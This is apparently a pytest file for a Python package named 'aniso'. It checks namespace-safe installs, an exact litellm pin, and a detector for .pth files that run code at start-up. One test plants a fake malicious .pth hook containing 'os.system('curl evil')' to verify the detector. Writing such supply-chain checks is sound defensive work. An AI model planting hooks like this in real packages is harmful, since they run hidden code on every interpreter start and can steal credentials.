"""The package installs into the `aniso` namespace without shadowing the stdlib."""

from __future__ import annotations

import subprocess
import sys
import sysconfig
from importlib import metadata
from pathlib import Path

from conftest import REPO

CHECK = (
    "import profile, aniso.profile, aniso.tiers, aniso.privacy, aniso.tui, aniso.scenarios;"
    "import aniso.core.ports, aniso.llm.gateway, aniso.data.forget, aniso.cli, aniso.bench.locomo;"
    "import aniso.tiers.index.vectors, aniso.profile.rules.en, aniso.bench.evaluate;"
    "import aniso.api.mcp, aniso.cli.mcp; assert callable(aniso.open);"
    "from importlib import resources;"
    "assert (resources.files('aniso.privacy') / 'data' / 'pii_labelled.jsonl').is_file();"
    "import sysconfig, pathlib;"
    "std = pathlib.Path(sysconfig.get_paths()['stdlib']);"
    "assert pathlib.Path(profile.__file__).parent == std, profile.__file__;"
    "assert hasattr(profile, 'Profile') and hasattr(profile, 'run');"
    "print(aniso.profile.__file__)"
)


def test_editable_install_imports_from_anywhere(tmp_path: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-c", CHECK], cwd=tmp_path, capture_output=True, text=True
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip().endswith(str(Path("profile") / "__init__.py"))


def test_regular_install_imports_from_anywhere(tmp_path: Path) -> None:
    """Build a real wheel and import it from a folder outside the repo."""
    wheels = tmp_path / "wheels"
    build = subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "wheel",
            "--no-deps",
            "--no-build-isolation",
            "-q",
            "-w",
            str(wheels),
            str(REPO),
        ],
        capture_output=True,
        text=True,
    )
    assert build.returncode == 0, build.stderr
    wheel = next(wheels.glob("aniso-*.whl"))
    target = tmp_path / "site"
    install = subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "install",
            "--no-deps",
            "--no-index",
            "-q",
            "--target",
            str(target),
            str(wheel),
        ],
        capture_output=True,
        text=True,
    )
    assert install.returncode == 0, install.stderr
    assert not (target / "profile").exists(), "profile/ must not be a top-level package"
    assert (target / "aniso" / "profile" / "__init__.py").is_file()
    result = subprocess.run(
        [sys.executable, "-c", CHECK],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env={"PYTHONPATH": str(target), "PATH": "/usr/bin:/bin"},
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip().startswith(str(target))


def test_litellm_is_pinned_exactly() -> None:
    assert metadata.version("litellm") == "1.106.2"
    requirement = [r for r in metadata.requires("aniso") or [] if r.startswith("litellm")]
    assert requirement == ["litellm==1.106.2"]


# .pth files that may run code at interpreter start-up: setuptools' own shim and the
# editable install of this project. Anything else that executes code is a red flag:
# the hijacked litellm 1.82.7/1.82.8 stole credentials exactly that way.
ALLOWED_EXECUTABLE_PTH = ("distutils-precedence.pth", "__editable__.aniso-", "_virtualenv.pth")


def executable_pth_files(site_dir: Path) -> list[str]:
    flagged = []
    for pth in sorted(site_dir.glob("*.pth")):
        lines = pth.read_text(encoding="utf-8", errors="replace").splitlines()
        runs_code = any(line.lstrip().startswith(("import ", "import\t")) for line in lines)
        if runs_code and not pth.name.startswith(ALLOWED_EXECUTABLE_PTH):
            flagged.append(pth.name)
    return flagged


def test_no_unexpected_pth_file_runs_code() -> None:
    site_dir = Path(sysconfig.get_paths()["purelib"])
    assert executable_pth_files(site_dir) == []


def test_pth_check_catches_a_planted_file(tmp_path: Path) -> None:
    (tmp_path / "litellm_init.pth").write_text("import os; os.system('curl evil')\n")
    (tmp_path / "paths.pth").write_text("/some/dir\n")
    assert executable_pth_files(tmp_path) == ["litellm_init.pth"]
